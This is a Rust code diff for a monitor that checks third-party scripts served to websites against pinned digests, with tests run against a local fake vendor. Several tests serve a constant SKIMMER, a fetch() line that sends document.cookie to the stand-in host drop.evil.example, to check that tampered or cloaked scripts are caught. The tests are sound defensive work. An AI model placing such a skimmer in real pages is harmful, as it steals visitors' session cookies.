@@ -8,11 +8,11 @@ use bytes::Bytes;
 use super::answer::{Answer, Came, came};
 use super::classify::{Right, agree, classify};
 use super::kind::Drift;
-use super::vantage::{VANTAGES, Validators, Vantage};
+use super::vantage::{VANTAGES, Validators, Vantage, with_cors};
 use super::watched::Watched;
 use crate::inventory::{Form, Tier};
 use crate::sri::Digest;
-use crate::transport::fetch::{FetchOptions, Fetcher};
+use crate::transport::fetch::{FetchOptions, Fetcher, Wanted};
 use crate::transport::tls::TlsError;
 
 /// Different unknown bytes of one look that are kept for review.
@@ -42,7 +42,7 @@ pub struct Version {
 pub(super) struct Memory {
     /// For each vantage what it was answered last, where that can be asked for again.
     known: Vec<Option<Known>>,
-    /// Tier evergreen: what came last.
+    /// Tier evergreen: what came first.
     pub(super) before: Vec<Digest>,
 }
 
@@ -95,7 +95,9 @@ impl Looker {
                 (drift, answers) = (again, second);
             }
         }
-        if evergreen && matches!(drift, Drift::FirstSeen | Drift::Changed) {
+        // What came first stays what it is held against: that a vendor goes on serving something else makes
+        // it no better.
+        if evergreen && drift == Drift::FirstSeen {
             memory.before = bytes_of(&answers);
         }
         Sight { drift, answers, versions }
@@ -110,23 +112,26 @@ impl Looker {
     ) -> Vec<(&'static str, Answer)> {
         let mut cookies = String::new();
         let mut answers: Vec<(&'static str, Answer)> = Vec::new();
+        let mut unreached = 0;
         memory.known.resize(VANTAGES.len(), None);
         for (place, vantage) in VANTAGES.iter().enumerate() {
-            if answers.len() == 2 && answers.iter().all(|(_, answer)| matches!(answer, Answer::Failed(_))) {
-                // Nobody is there: that the others would wait in vain too needs no proof.
+            if answers.len() == 2 && unreached == 2 {
+                // Nobody is there: that the others would wait in vain too needs no proof. Who was asked, and
+                // gave no answer, may give the others one.
                 break;
             }
             let known = memory.known.get(place).cloned().flatten();
             let known = known
                 .filter(|known| whole != Whole::All && whole != Whole::Only(place) && known.validators.any());
             let mut came = self.ask(watched, vantage, &cookies, known.as_ref()).await;
-            if let Came::Other(Answer::Failed(_)) = came {
+            if let Came::Other(Answer::Failed(_)) | Came::Unreached(_) = came {
                 // Once more: networks fail by chance.
                 came = self.ask(watched, vantage, &cookies, None).await;
             }
             let (answer, kept) = match (came, known) {
                 (Came::Whole { answer, bytes, validators, cookies: set }, _) => {
-                    if cookies.is_empty() {
+                    // The one given to whom says truthfully that it watches may be a mark.
+                    if cookies.is_empty() && vantage.is_browser() {
                         cookies = set;
                     }
                     keep(versions, right, &answer, bytes);
@@ -135,6 +140,10 @@ impl Looker {
                 (Came::NotModified, Some(known)) => (known.answer.clone(), Some(known)),
                 (Came::NotModified, None) => {
                     (Answer::Failed("it answered 304 to a request without conditions".to_owned()), None)
+                }
+                (Came::Unreached(why), _) => {
+                    unreached += 1;
+                    (Answer::Failed(why), None)
                 }
                 (Came::Other(answer), _) => (answer, None),
             };
@@ -151,6 +160,7 @@ impl Looker {
             allow_private: self.allow_private,
             max_time: self.patience,
             any_status: true,
+            wanted: if with_cors(watched) { Wanted::Script } else { Wanted::PlainScript },
             through: watched.through.clone(),
             fields: vantage.fields(watched, cookies, known.map(|known| &known.validators)),
             ..FetchOptions::default()
@@ -180,4 +190,167 @@ fn bare(answers: &[(&'static str, Answer)]) -> Vec<Answer> {
 
 fn bytes_of(answers: &[(&'static str, Answer)]) -> Vec<Digest> {
     super::classify::digests(&bare(answers)).into_iter().cloned().collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::{Read, Write};
+    use std::net::TcpListener;
+    use std::sync::{Arc, Mutex};
+    use std::thread;
+
+    use super::*;
+    use crate::drift::watched::tests::chat;
+
+    const SKIMMER: &str = "fetch('https://drop.evil.example/?'+document.cookie)";
+    const OK: &str = "200 OK\r\naccess-control-allow-origin: *\r\ncontent-type: text/javascript";
+
+    /// A vendor whose answers (head, body) depend on the request's head in lower case, and what is watched
+    /// of it.
+    fn vendor(
+        tier: Tier,
+        answer: impl Fn(&str) -> (&'static str, Vec<u8>) + Send + 'static,
+    ) -> (Watched, Arc<Mutex<Vec<String>>>) {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let mut watched = chat();
+        watched.url = format!("http://{}/chat.js", listener.local_addr().unwrap()).parse().unwrap();
+        Arc::get_mut(&mut watched.script).unwrap().tier = tier;
+        let requests = Arc::<Mutex<Vec<String>>>::default();
+        let kept = Arc::clone(&requests);
+        thread::spawn(move || {
+            for stream in listener.incoming() {
+                let mut stream = stream.unwrap();
+                let mut request = [0; 4096];
+                let length = stream.read(&mut request).unwrap();
+                let request = String::from_utf8_lossy(&request[..length]).to_lowercase();
+                kept.lock().unwrap().push(request.clone());
+                let (head, body) = answer(&request);
+                let head = format!("HTTP/1.1 {head}\r\ncontent-length: {}\r\n\r\n", body.len());
+                // Whoever has enough hangs up.
+                let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(&body));
+            }
+        });
+        (watched, requests)
+    }
+
+    fn look(watched: &Watched, memory: &mut Memory) -> Sight {
+        let looker = Looker::new(None, true, Duration::from_secs(20)).unwrap();
+        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+        let look = looker.look(watched, memory, Whole::All);
+        tokio::task::LocalSet::new().block_on(&runtime, look)
+    }
+
+    #[test]
+    fn an_evergreen_script_is_asked_for_as_its_tags_ask() {
+        let (watched, requests) = vendor(Tier::Evergreen, |head| {
+            (OK, if head.contains("origin:") { b"chat()".to_vec() } else { SKIMMER.into() })
+        });
+        let mut memory = Memory { before: watched.script.digests.clone(), ..Memory::default() };
+        assert_eq!(look(&watched, &mut memory).drift, Drift::Changed);
+        let requests = requests.lock().unwrap();
+        assert_eq!(requests.len(), VANTAGES.len());
+        assert!(requests.iter().all(|head| !head.contains("sec-fetch-mode: cors")), "{requests:#?}");
+        assert_eq!(requests.iter().filter(|head| head.contains("sec-fetch-mode: no-cors")).count(), 5);
+    }
+
+    #[test]
+    fn an_evergreen_change_stays_a_finding_however_often_it_is_seen() {
+        let served = Arc::new(Mutex::new("chat()"));
+        let now = Arc::clone(&served);
+        let (watched, _) = vendor(Tier::Evergreen, move |_| (OK, now.lock().unwrap().as_bytes().to_vec()));
+        let mut memory = Memory::default();
+        assert_eq!(look(&watched, &mut memory).drift, Drift::FirstSeen);
+        *served.lock().unwrap() = SKIMMER;
+        for _ in 0..3 {
+            assert_eq!(look(&watched, &mut memory).drift, Drift::Changed);
+        }
+        *served.lock().unwrap() = "chat()";
+        assert_eq!(look(&watched, &mut memory).drift, Drift::Same);
+    }
+
+    #[test]
+    fn whatever_browsers_run_is_changed_bytes_whatever_it_says_of_itself() {
+        for head in [
+            "203 Non-Authoritative Information",
+            "201 Created",
+            "206 Partial Content",
+            "200 OK\r\ncontent-type: text/html",
+            "200 OK\r\ncontent-type: TEXT/HTML; charset=utf-8",
+        ] {
+            for code in [SKIMMER.to_owned(), format!("\u{feff}<!-- a comment\n{SKIMMER}")] {
+                let bytes = code.clone().into_bytes();
+                let (watched, _) = vendor(Tier::Pin, move |_| (head, bytes.clone()));
+                let sight = look(&watched, &mut Memory::default());
+                assert_eq!(sight.drift, Drift::Changed, "{head}: {:?}", sight.answers);
+                assert_eq!(sight.versions[0].bytes, code, "kept for review: {head}");
+            }
+        }
+        // `<p` is a letter in UTF-16, and a name in JavaScript.
+        let head = "200 OK\r\ncontent-type: text/html; charset=utf-16";
+        let (watched, _) = vendor(Tier::Pin, move |_| (head, b"<p=\x001\x00".to_vec()));
+        assert_eq!(look(&watched, &mut Memory::default()).drift, Drift::Changed);
+    }
+
+    #[test]
+    fn a_page_in_place_of_a_script_is_gone() {
+        for page in ["<!DOCTYPE html><p>nothing", "\n <p>nothing", ""] {
+            let head = "200 OK\r\ncontent-type: text/html; charset=\"UTF-8\"";
+            let (watched, _) = vendor(Tier::Pin, move |_| (head, page.into()));
+            assert_eq!(look(&watched, &mut Memory::default()).drift, Drift::Gone, "{page}");
+        }
+    }
+
+    #[test]
+    fn what_can_not_be_read_here_is_changed_where_browsers_may_run_it() {
+        for (head, body) in [
+            ("200 OK\r\ncontent-encoding: gzip, br", SKIMMER.into()),
+            ("200 OK\r\ncontent-encoding: gzip", SKIMMER.into()),
+            ("200 OK\r\ncontent-type: text/javascript", vec![b' '; (10 << 20) + 1]),
+        ] {
+            let (watched, _) = vendor(Tier::Mirror, move |_| (head, body.clone()));
+            let sight = look(&watched, &mut Memory::default());
+            assert_eq!(sight.drift, Drift::Changed, "{head}: {:?}", sight.answers);
+            assert!(sight.versions.is_empty());
+        }
+        let head = "503 Service Unavailable\r\ncontent-encoding: gzip, br";
+        let (watched, _) = vendor(Tier::Pin, move |_| (head, b"sorry".to_vec()));
+        assert_eq!(look(&watched, &mut Memory::default()).drift, Drift::Unreachable);
+    }
+
+    #[test]
+    fn a_vendor_that_answers_the_first_vantages_with_an_error_is_asked_by_all() {
+        let (watched, _) = vendor(Tier::Pin, |head| {
+            if head.contains("agent: countersign/") || head.contains("windows") {
+                ("403 Forbidden", Vec::new())
+            } else {
+                (OK, SKIMMER.into())
+            }
+        });
+        let sight = look(&watched, &mut Memory::default());
+        assert_eq!((sight.drift, sight.answers.len()), (Drift::Changed, VANTAGES.len()));
+    }
+
+    #[test]
+    fn nobody_at_all_is_asked_twice_and_no_more() {
+        let mut watched = chat();
+        let nobody = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+        watched.url = format!("http://{nobody}/chat.js").parse().unwrap();
+        let sight = look(&watched, &mut Memory::default());
+        assert_eq!((sight.drift, sight.answers.len()), (Drift::Unreachable, 2));
+    }
+
+    #[test]
+    fn the_cookie_that_is_brought_back_is_not_the_one_given_to_countersign() {
+        let (watched, _) = vendor(Tier::Pin, |head| {
+            if head.contains("agent: countersign/") {
+                ("200 OK\r\naccess-control-allow-origin: *\r\nset-cookie: k=watcher", b"chat()".to_vec())
+            } else {
+                (OK, if head.contains("k=watcher") { b"chat()".to_vec() } else { SKIMMER.into() })
+            }
+        });
+        let sight = look(&watched, &mut Memory::default());
+        let returning = sight.answers.iter().find(|(name, _)| *name == "chrome-android-returning").unwrap();
+        let Answer::Bytes { digest, .. } = &returning.1 else { panic!("{returning:?}") };
+        assert!(!watched.script.digests.contains(digest), "what visitors get is seen");
+    }
 }
